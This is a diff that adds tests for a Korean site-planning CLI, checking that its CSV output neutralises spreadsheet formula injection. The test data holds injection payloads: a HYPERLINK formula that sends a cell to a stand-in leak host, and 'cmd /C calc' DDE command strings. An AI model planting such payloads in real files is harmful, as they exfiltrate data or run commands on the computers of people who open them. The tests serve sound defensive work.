@@ -304,3 +304,71 @@ def test_online_map_does_reference_tiles_so_the_offline_check_can_fail():
     parser = _Links()
     parser.feed(sg.map_html(sg.plan_map(sg.load_plan("daegu-2020"))))
     assert any(_REMOTE.match(url) for _, _, url in parser.urls)
+
+
+# --------------------------------------------------------------------------- spreadsheets
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-1+2",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\uff1d1+1",  # full-width =
+]
+
+
+def _csv_rows(text: str) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+def test_candidates_and_compare_csv_neutralise_formulas_and_keep_numbers(tmp_path):
+    """Text cells a spreadsheet would run get a leading quote; number cells stay numbers."""
+    import json
+
+    sites = [{"key": "hub1", "name": "거점산단", "lon": 128.50, "lat": 35.84}]
+    sites += [
+        {"key": f"s{i}", "name": name, "lon": 128.51 + i / 100, "lat": 35.85}
+        for i, name in enumerate(FORMULAS)
+    ]
+    sites_file = tmp_path / "sites.yaml"
+    sites_file.write_text(json.dumps({"sites": sites}, ensure_ascii=False), encoding="utf-8")
+    r = CliRunner().invoke(
+        cli, ["candidates", "hub1", "--sites", str(sites_file), "--max-km", "50", "--format", "csv"]
+    )
+    assert r.exit_code == 0, r.output
+    rows = {row["key"]: row for row in _csv_rows(r.stdout)}
+    assert len(rows) == len(FORMULAS)
+    for i, name in enumerate(FORMULAS):
+        assert rows[f"s{i}"]["name_ko"] == "'" + name
+        assert float(rows[f"s{i}"]["distance_km"]) > 0  # a number, not a quoted text
+
+    plan = {
+        "id": "=cmd|' /C calc'!A0",
+        "name": "계획",
+        "round": -1,
+        "announced": "+2020-01-01",
+        "sites": [
+            {"key": "hub", "name": "거점", "role": "hub", "lon": 128.50, "lat": 35.84},
+            {"key": "l1", "name": "연계", "role": "linked_complex", "lon": 128.55, "lat": 35.88},
+        ],
+    }
+    plan_file = tmp_path / "plan.yaml"
+    plan_file.write_text(json.dumps(plan, ensure_ascii=False), encoding="utf-8")
+    r = CliRunner().invoke(cli, ["compare", str(plan_file), "daegu-2020", "--format", "csv"])
+    assert r.exit_code == 0, r.output
+    first, second = _csv_rows(r.stdout)
+    assert first["id"] == "'=cmd|' /C calc'!A0" and first["announced"] == "'+2020-01-01"
+    assert first["round"] == "-1" and int(first["round"]) == -1  # a negative number stays one
+    assert float(first["max_km_centroid"]) > 0
+    assert second["id"] == "daegu-2020" and second["hub"] == "seongseo"
+    # the loaders strip a leading tab or CR from names; the helper quotes them all the same
+    assert [_io.spreadsheet_safe(v) for v in ("\t=1", "\r=1", "-0.85", -0.85, "성서")] == [
+        "'\t=1",
+        "'\r=1",
+        "-0.85",
+        -0.85,
+        "성서",
+    ]
